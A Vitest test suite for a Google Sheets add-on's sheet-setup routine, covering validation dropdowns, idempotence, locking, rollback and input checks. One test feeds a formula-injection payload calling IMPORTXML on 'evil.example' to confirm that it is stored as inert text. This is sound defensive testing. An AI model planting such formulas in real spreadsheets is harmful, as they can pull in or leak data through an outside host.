import { describe, expect, it } from "vitest";
import { SHEETS } from "../../src/domain/schema/workbook";
import { loadAddOn, sheetValues, spreadsheetApp, spreadsheetOf, type LoadedAddOn } from "../support/bundle";

const input = { initiative: "PLG Onboarding", channels: ["web", "in-app", "email"], pattern: "diamond" };

function setUp(addOn: LoadedAddOn = loadAddOn()) {
  addOn.run("setupSheets", input);
  return addOn;
}

/** Everything a person could see or rely on in the workbook, for before/after comparisons. */
function snapshot(addOn: LoadedAddOn) {
  return spreadsheetOf(addOn)
    .getSheets()
    .map((sheet) => {
      const range = sheet.getDataRange();
      return {
        name: sheet.getName(),
        values: range.getValues(),
        notes: range.getNotes(),
        weights: range.getFontWeights(),
        frozen: sheet.getFrozenRows(),
        validations: range.getDataValidations().map((row) => row.map((rule) => (rule ? rule.getCriteriaValues() : null))),
        protections: sheet
          .getProtections(spreadsheetApp(addOn).ProtectionType.RANGE)
          .map((p) => [p.getDescription(), p.getRange().getA1Notation(), p.isWarningOnly()]),
      };
    });
}

describe("Set up sheets", () => {
  it("creates DESIGN's sheets in order, Plan first", () => {
    const addOn = setUp();
    expect(
      spreadsheetOf(addOn)
        .getSheets()
        .map((sheet) => sheet.getName())
        .filter((name) => name !== "Sheet1"),
    ).toEqual(SHEETS.map((s) => s.name));
  });

  it("opens a new plan on its first stage sheet, and leaves a re-run where the person is", () => {
    const addOn = setUp();
    expect(spreadsheetOf(addOn).getActiveSheet().getName()).toBe("1 Objectives");
    spreadsheetOf(addOn).getSheetByName("3 Profiles")!.activate();
    addOn.run("setupSheets", input);
    expect(spreadsheetOf(addOn).getActiveSheet().getName()).toBe("3 Profiles");
  });

  it("gives every stage sheet a frozen, bold, protected (warning-only) header with a note on each column", () => {
    const addOn = setUp();
    const app = spreadsheetApp(addOn);
    for (const spec of SHEETS.filter((s) => s.layout === "table")) {
      const sheet = spreadsheetOf(addOn).getSheetByName(spec.name)!;
      const width = sheet.getLastColumn();
      const header = sheet.getRange(1, 1, 1, width);
      expect(sheet.getFrozenRows()).toBe(1);
      expect(header.getFontWeights()[0].every((weight) => weight === "bold")).toBe(true);
      expect(header.getNotes()[0].every((note) => note.length > 10)).toBe(true);
      const protections = spec.addOnOwned ? sheet.getProtections(app.ProtectionType.SHEET) : sheet.getProtections(app.ProtectionType.RANGE);
      expect(protections).toHaveLength(1);
      expect(protections[0].isWarningOnly()).toBe(true);
    }
  });

  it("puts a dropdown with every allowed value on each enum column, down the whole sheet", () => {
    const addOn = setUp();
    const sheet = spreadsheetOf(addOn).getSheetByName("2 Attributes")!;
    const header = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0];
    const typeColumn = header.indexOf("Type") + 1;
    const rule = sheet.getRange(sheet.getMaxRows(), typeColumn).getDataValidation();
    expect(rule?.getCriteriaValues()[0]).toEqual(["string", "number", "integer", "boolean", "date", "timestamp", "enum", "string_list"]);
    expect(sheet.getRange(2, header.indexOf("Attribute ID") + 1).getDataValidation()).toBeNull();
    expect(sheet.getColumnWidth(header.indexOf("Privacy notes") + 1)).toBe(200);
  });

  it("a re-run gives back the dropdowns a paste took away, and writes no rule where every cell has one", () => {
    const addOn = setUp();
    const sheet = spreadsheetOf(addOn).getSheetByName("2 Attributes")!;
    const header = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0];
    const type = header.indexOf("Type") + 1;
    const sensitivity = header.indexOf("Sensitivity") + 1;
    // Pasting text from another spreadsheet leaves the cells without a rule.
    sheet.getRange(40, type, 3, 1).clearDataValidations();
    sheet.getRange(41, sensitivity).clearDataValidations();
    const before = addOn.emulator.calls.snapshot();
    addOn.run("setupSheets", input);
    const calls = addOn.emulator.calls.since(before).byMethod;
    for (const row of [40, 41, 42]) expect(sheet.getRange(row, type).getDataValidation()?.getCriteriaValues()[0]).toContain("string_list");
    expect(sheet.getRange(41, sensitivity).getDataValidation()?.getCriteriaValues()[0]).toContain("sensitive");
    expect(calls["Range.setDataValidations"]).toBe(1);
    addOn.run("setupSheets", input);
    expect(addOn.emulator.calls.since(before).byMethod["Range.setDataValidations"]).toBe(1);
  });

  it("a re-run after the dropdowns' template changed writes every row again", () => {
    const addOn = setUp();
    const sheet = spreadsheetOf(addOn).getSheetByName("2 Attributes")!;
    const header = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0];
    const type = header.indexOf("Type") + 1;
    const old = spreadsheetApp(addOn).newDataValidation().requireValueInList(["string", "number"], true).build();
    sheet.getRange(2, type, sheet.getMaxRows() - 1, 1).setDataValidation(old);
    // What an earlier version of the add-on recorded for its own dropdowns.
    const properties = addOn.emulator.globals.PropertiesService as GoogleAppsScript.Properties.PropertiesService;
    properties.getDocumentProperties().setProperty("dropdownTemplate", "v0ld");
    addOn.run("setupSheets", input);
    expect(sheet.getRange(sheet.getMaxRows(), type).getDataValidation()?.getCriteriaValues()[0]).toContain("string_list");
  });

  it("writes the Plan inputs, a Plan ID and the default retry limit", () => {
    const addOn = setUp();
    const plan = Object.fromEntries(
      sheetValues(addOn, "Plan")
        .slice(1)
        .map(([field, value]) => [field, value]),
    );
    expect(plan).toMatchObject({ Initiative: "PLG Onboarding", Channels: "web, in-app, email", Pattern: "diamond", "Retry limit": 2 });
    expect(plan["Plan ID"]).toMatch(/^plg-onboarding-[0-9a-f]{4}$/);
  });

  it("is idempotent: running it twice gives the same workbook", () => {
    const addOn = setUp();
    const first = snapshot(addOn);
    const result = addOn.run<{ created: string[]; upgraded: { addedColumns: string[] }[] }>("setupSheets", input);
    expect(result.created).toEqual([]);
    expect(result.upgraded.every((u) => u.addedColumns.length === 0)).toBe(true);
    expect(snapshot(addOn)).toEqual(first);
  });

  it("keeps the Plan ID and every Plan value the inputs do not name", () => {
    const addOn = setUp();
    const plan = spreadsheetOf(addOn).getSheetByName("Plan")!;
    const before = sheetValues(addOn, "Plan");
    plan.getRange(before.findIndex((row) => row[0] === "Constraints") + 1, 2).setValue("No PII in ads");
    addOn.run("setupSheets", { initiative: "PLG Onboarding v2", channels: ["web"] });
    const after = Object.fromEntries(sheetValues(addOn, "Plan").map(([f, v]) => [f, v]));
    expect(after["Plan ID"]).toBe(Object.fromEntries(before.map(([f, v]) => [f, v]))["Plan ID"]);
    expect(after).toMatchObject({ Initiative: "PLG Onboarding v2", Channels: "web", Constraints: "No PII in ads", Pattern: "diamond" });
  });

  it("appends a missing column to a sheet holding rows, keeping every value and the user's own column", () => {
    const addOn = loadAddOn();
    const sheet = spreadsheetOf(addOn).insertSheet("2 Attributes");
    sheet.getRange(1, 1, 3, 3).setValues([
      ["Type", "Attribute ID", "Our notes"],
      ["date", "signup_date", "from the warehouse"],
      ["boolean", "onboarding_done", "ask Dana"],
    ]);
    const result = setUp(addOn).run<{ upgraded: { sheet: string; addedColumns: string[] }[] }>("setupSheets", input);
    const values = sheetValues(addOn, "2 Attributes");
    expect(values[0].slice(0, 4)).toEqual(["Type", "Attribute ID", "Our notes", "Display name"]);
    expect(values[0]).toHaveLength(3 + 13);
    expect(values.slice(1).map((row) => row.slice(0, 3))).toEqual([
      ["date", "signup_date", "from the warehouse"],
      ["boolean", "onboarding_done", "ask Dana"],
    ]);
    expect(result.upgraded.find((u) => u.sheet === "2 Attributes")?.addedColumns).toEqual([]);
  });

  it("leaves a same-named sheet with unrelated content untouched and says what to do", () => {
    const addOn = loadAddOn();
    const sheet = spreadsheetOf(addOn).insertSheet("3 Profiles");
    sheet.getRange(1, 1, 2, 2).setValues([
      ["Quarter", "Revenue"],
      ["Q1", 1200],
    ]);
    const result = addOn.run<{ skipped: { sheet: string; reason: string }[] }>("setupSheets", input);
    expect(result.skipped).toEqual([
      { sheet: "3 Profiles", reason: expect.stringContaining('Rename it (for example to "3 Profiles (old)")') },
    ]);
    expect(sheetValues(addOn, "3 Profiles")).toEqual([
      ["Quarter", "Revenue"],
      ["Q1", 1200],
    ]);
    expect(sheet.getFrozenRows()).toBe(0);
    expect(sheet.getRange(1, 1).getNote()).toBe("");
  });

  it("writes under the document lock and flushes before releasing it", () => {
    const addOn = loadAddOn();
    addOn.run("setupSheets", input);
    const types = addOn.emulator.events.map((event) => event.type);
    expect(types).toEqual(["lock", "flush", "release"]);
  });

  it("tells the user plainly when another run holds the lock, and changes nothing", () => {
    const addOn = loadAddOn();
    addOn.emulator.holdLock("document", "another person's setup");
    expect(() => addOn.run("setupSheets", input)).toThrow(/Someone else is updating this plan right now/);
    expect(
      spreadsheetOf(addOn)
        .getSheets()
        .map((s) => s.getName()),
    ).toEqual(["Sheet1"]);
  });
});

describe("Set up sheets is all or nothing", () => {
  /** The position of the n-th call to `method` in a clean run of setup on a copy of the workbook. */
  function nthCall(addOn: LoadedAddOn, method: string, n: number): number {
    const copy = loadAddOn({ state: addOn.emulator.saveState() });
    const start = copy.emulator.calls.snapshot();
    copy.run("setupSheets", input);
    const calls = copy.emulator.calls.sequence().slice(start.total);
    return calls.map((call, index) => [call, index + 1] as const).filter(([call]) => call === method)[n - 1][1];
  }
  const failing = (addOn: LoadedAddOn, at: number) => {
    // Three tries and the two pauses between them: the call keeps failing through its retries.
    addOn.emulator.faults.failCall(at, { times: 5 });
    try {
      addOn.run("setupSheets", input);
    } catch (error) {
      return (error as Error).message;
    }
    return "";
  };

  it("on a fresh workbook, a call that keeps failing half way deletes the sheets it created and says so", () => {
    const addOn = loadAddOn();
    const message = failing(addOn, nthCall(addOn, "Spreadsheet.insertSheet", 5));
    expect(message).toBe(
      "Set up sheets did not finish: a Google service did not respond. Nothing was changed; try again in a few minutes.",
    );
    expect(
      spreadsheetOf(addOn)
        .getSheets()
        .map((sheet) => sheet.getName()),
    ).toEqual(["Sheet1"]);
  });

  it("on a workbook with data, it puts back the sheets it upgraded and logs the failure", () => {
    const addOn = setUp();
    const profiles = spreadsheetOf(addOn).getSheetByName("3 Profiles")!;
    profiles.getRange("A2:B2").setValues([["new-free-users", "New free workspaces"]]);
    profiles.deleteColumn(profiles.getLastColumn());
    const before = snapshot(addOn).filter((sheet) => sheet.name !== "Change log");
    // The upgrade's last write to the sheet: its header, dropdowns and protection must all be put back.
    const message = failing(addOn, nthCall(addOn, "Protection.setWarningOnly", 1));
    expect(message).toMatch(/^Set up sheets did not finish: /);
    expect(snapshot(addOn).filter((sheet) => sheet.name !== "Change log")).toEqual(before);
    expect(String(sheetValues(addOn, "Change log").at(-1)![6])).toBe(`setup failed: ${message}`);
  });

  it("one failing call is retried and setup completes", () => {
    const addOn = loadAddOn();
    addOn.emulator.faults.failNext("Spreadsheet.insertSheet", 1);
    addOn.run("setupSheets", input);
    expect(spreadsheetOf(addOn).getSheets()).toHaveLength(1 + SHEETS.length);
  });
});

describe("Set up sheets reads the Plan sheet by its header labels", () => {
  it("keeps the Plan labels and values when someone inserted a column before Field", () => {
    const addOn = setUp();
    const plan = spreadsheetOf(addOn).getSheetByName("Plan")!;
    plan.insertColumnBefore(1);
    plan.getRange("A1:A2").setValues([["Our notes"], ["the ID is ours"]]);
    const before = sheetValues(addOn, "Plan");
    addOn.run("setupSheets", { ...input, initiative: "PLG Onboarding v2" });
    const after = sheetValues(addOn, "Plan");
    expect(after.map((row) => row[1])).toEqual(before.map((row) => row[1]));
    expect(after.map((row) => row[0])).toEqual(before.map((row) => row[0]));
    const values = Object.fromEntries(after.map((row) => [row[1], row[2]]));
    expect(values).toMatchObject({ "Plan ID": before.find((row) => row[1] === "Plan ID")![2], Initiative: "PLG Onboarding v2" });
    expect(addOn.run<{ plan: { initiative: string } }>("getStatus").plan.initiative).toBe("PLG Onboarding v2");
  });

  it("writes an initiative that looks like a formula as text", () => {
    const addOn = loadAddOn();
    addOn.run("setupSheets", { ...input, initiative: '=IMPORTXML("https://evil.example","//a")' });
    const plan = spreadsheetOf(addOn).getSheetByName("Plan")!;
    expect(plan.getDataRange().getFormulas().flat().filter(Boolean)).toEqual([]);
    expect(sheetValues(addOn, "Plan").find((row) => row[0] === "Initiative")![1]).toBe('=IMPORTXML("https://evil.example","//a")');
  });
});

describe("Set up sheets refuses bad input, naming the field, and creates nothing", () => {
  it.each([
    [{ channels: ["web"] }, /Initiative is required/],
    [{ initiative: "   ", channels: ["web"] }, /Initiative is required/],
    [{ initiative: 42, channels: ["web"] }, /Initiative is required/],
    [
      { initiative: "PLG", channels: ["web", "emial"] },
      /Channels: "emial" is not a channel\. Choose from web, in-app, email, ads, sales\./,
    ],
    [{ initiative: "PLG", channels: [] }, /Choose at least one channel/],
    [{ initiative: "PLG", channels: ["web"], pattern: "star" }, /Pattern must be diamond or pipeline/],
    [{ initiative: "PLG", channels: ["web"], architect: "ana at example" }, /Personalization Architect must be an email address/],
  ])("%j", (bad, message) => {
    const addOn = loadAddOn();
    expect(() => addOn.run("setupSheets", bad)).toThrow(message);
    expect(
      spreadsheetOf(addOn)
        .getSheets()
        .map((s) => s.getName()),
    ).toEqual(["Sheet1"]);
  });
});
